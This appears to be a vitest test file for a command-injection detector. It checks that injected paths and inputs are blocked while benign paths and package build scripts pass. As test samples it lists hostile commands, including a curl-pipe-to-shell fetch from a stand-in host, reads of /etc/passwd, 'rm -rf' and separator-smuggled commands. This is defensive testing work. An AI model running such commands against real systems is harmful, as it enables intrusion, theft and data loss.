import { expect, test } from 'vitest'
import { isBlocked, keepsContract } from '../contract.ts'
import { commandInjection } from './detector.ts'
import { attacks, harmless, pieces } from './samples.ts'

keepsContract(commandInjection, attacks, harmless, pieces)

test('explains what it reads', () => {
  expect(commandInjection.explain?.('x;sudo cat /etc/passwd')).toEqual([
    { type: 'separator', start: 1, end: 2 },
    { type: 'wrapper', start: 2, end: 6 },
    { type: 'word', start: 6, end: 7 },
  ])
  expect(commandInjection.explain?.('$(id)'.repeat(100))).toHaveLength(64)
})

test.each([
  '/api/bash -c id',
  '/curl http://evil.example/x.sh | sh',
  '/api/ls -la /',
  '/x/cat /etc/passwd',
  '/cmd.exe /c dir',
  '/ping/x;usr/bin/id',
  '/ping/8.8.8.8;cat x.txt',
])('a folder of a path is a command line: %j', (path) => {
  expect(isBlocked(commandInjection, path, 'path')).toBe(true)
})

test.each([
  '/whoami',
  '/files/cut 2.pdf',
  '/docs/how to find -x.pdf',
  '/api/curl',
  '/photos/cat and dog.jpg',
  '/wget',
  '/artists/Simon & Garfunkel/top',
  '/teas/tea && biscuits/view',
  '/tags/t-shirt|hoodie/more',
])('paths pass: %j', (path) => {
  expect(isBlocked(commandInjection, path, 'path')).toBe(false)
})

test('braces behind a separator are a command and its arguments, with nothing that tells a file', () => {
  expect(isBlocked(commandInjection, '8.8.8.8;{cat,flag}')).toBe(true)
  expect(isBlocked(commandInjection, 'red;{green,blue}')).toBe(false)
})

test.each([
  '8.8.8.8; cat 1/2 /etc/passwd',
  '8.8.8.8; more 1/2 /etc/passwd',
  '8.8.8.8; rm 24/7 -rf x',
  '8.8.8.8; curl ... http://evil.example/x',
  '8.8.8.8; find a/b -delete',
  '8.8.8.8; watch http://evil.example/x -O y',
  '8.8.8.8; print x.txt > a.php',
  '8.8.8.8; python < x',
  '8.8.8.8; bash < x',
  '8.8.8.8; more < x | sh',
  '8.8.8.8; Curl Foo http://evil.example/x',
  '8.8.8.8; time < x | sh',
])('what looks like prose before a command line goes on is a pretext: %j', (text) => {
  expect(isBlocked(commandInjection, text)).toBe(true)
})

test('Windows asks for no small letters where nothing follows', () => {
  expect(isBlocked(commandInjection, '8.8.8.8&Dir')).toBe(true)
  expect(isBlocked(commandInjection, '8.8.8.8&Di')).toBe(false)
})

test("the scripts of a package's manifest are command lines, which read no secrets", () => {
  const isBlockedAs = (text: string, name: string, parent: string) => {
    let isBlocked = false
    commandInjection.detect(text, { where: 'body', name, parent, isName: false }, (severity) => {
      isBlocked ||= severity === 'critical'
    })
    return isBlocked
  }
  expect(isBlockedAs('tsc && cp -r wasm build/', 'build', 'scripts')).toBe(false)
  expect(isBlockedAs('rm -rf dist && node build.js', 'build', 'scripts')).toBe(false)
  expect(isBlockedAs('tsc && cp -r wasm build/', 'build', 'script')).toBe(true)
  expect(isBlockedAs('tsc && cp -r wasm build/', 'scripts', 'scripts')).toBe(true)
  expect(isBlockedAs('tsc; cat /etc/passwd', 'build', 'scripts')).toBe(true)
})

test('the end of an element behind a command is no file, unless the text has not opened it', () => {
  expect(isBlocked(commandInjection, '<a>funds;cat</a>')).toBe(false)
  expect(isBlocked(commandInjection, '8.8.8.8;cat</flag>')).toBe(true)
})
